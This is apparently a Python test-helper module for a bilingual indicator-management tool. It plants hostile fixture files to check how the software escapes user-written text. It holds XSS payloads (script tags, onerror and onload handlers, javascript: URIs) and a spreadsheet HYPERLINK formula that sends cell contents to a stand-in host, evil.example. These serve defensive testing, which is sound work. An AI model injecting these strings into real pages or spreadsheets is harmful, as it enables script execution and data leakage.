"""Hostile files that users of a house may write themselves, and figures that are brought in."""

import os
import re
import tempfile

from house import TOP

MARK = "zqx"
SCRIPT = f"{MARK}\"'><script>alert(1)</script><img src=x onerror=alert(1)></textarea></title><svg onload=alert(1)>"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1;\"" + MARK + "\")"
INDICATOR = "probe-angriff"


def plant(folder):
    """An indicator, a guide and notices whose every German and English text is an attack."""
    with open(f"{TOP}/Indicators/wahlfreiheit/wahlmoeglichkeiten.yaml", encoding="utf-8") as shipped:
        text = shipped.read().replace("id: wahlmoeglichkeiten", f"id: {INDICATOR}")
    text = re.sub(r"related:.*?(?=breakdowns:)", "", text, flags=re.S)
    quoted = '"' + SCRIPT.replace('"', '\\"') + '"'
    asked = quoted[:-1] + '?"'
    text = re.sub(r"title: \{de: \"Echte[^}]*\}", f"title: {{de: {quoted}, en: {quoted}}}", text)
    text = re.sub(r"question:\n  de: \"[^\"]*\"\n  en: \"[^\"]*\"", f"question: {{de: {asked}, en: {asked}}}", text)
    formula = '"' + FORMULA.replace('"', '\\"') + '"'
    text = re.sub(r"hides:\n.*?(?=aims:)", f"hides: {{de: {formula}, en: {formula}}}\n", text, flags=re.S)
    text = re.sub(r"source:\n  de: .*\n  en: .*", f"source: {{de: {formula}, en: {formula}}}", text, count=1)
    write(f"{folder}/Indicators/wahlfreiheit/{INDICATOR}.yaml", text)
    with open(f"{TOP}/Dialogues/team-reflexion.yaml", encoding="utf-8") as shipped:
        guide = shipped.read().replace("id: team-reflexion", "id: probe-leitfaden")
    guide = guide.replace('title: {de: "Team-Reflexion", en: "Team reflection"}', f"title: {{de: {quoted}, en: {quoted}}}")
    write(f"{folder}/Dialogues/probe-leitfaden.yaml", guide)
    hostile = '"javascript:alert(1) ' + SCRIPT.replace('"', '\\"') + '"'
    write(f"{folder}/notices.yaml", f"provider: {hostile}\nrepresentative: {hostile}\ncontact: {hostile}\n"
          f"supervision: {hostile}\nprivacy:\n  officer: {hostile}\n  authority: {hostile}\n  basis: {hostile}\n"
          f"  retention: {hostile}\n")


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def mapping(series, kind, unit, columns, source="Probe", period="Monat", extra="", rows=None):
    """A mapping of a table with semicolons, one rule."""
    filters = "" if rows is None else "\n    rows: {" + ", ".join(f'"{k}": "{v}"' for k, v in rows.items()) + "}"
    return (f"id: probe\nsource: {source}\ntable: {{separator: \";\", decimal: \",\", encoding: utf-8, headerRow: 1}}\n"
            f"period: {{column: \"{period}\", format: iso}}\nsigns: {{\"*\": suppressed}}\n{extra}series:\n"
            f"  - series: {series}\n    kind: {kind}\n    unit: {unit}\n    {columns}\n    caveat: final{filters}\n")


def bring(house, organisation, mapping_text, table, vintage="2026-01-15", *more):
    """`augenmerk import observations`; what it said."""
    with tempfile.TemporaryDirectory() as folder:
        with open(f"{folder}/probe.yaml", "w", encoding="utf-8") as file:
            file.write(mapping_text)
        with open(f"{folder}/probe.csv", "wb") as file:
            file.write(table if isinstance(table, bytes) else table.encode())
        return house.run("import", "observations", f"{folder}/probe.csv", "--house", house.folder, "--organisation",
                         organisation, "--mapping", f"{folder}/probe.yaml", "--vintage", vintage, *more)
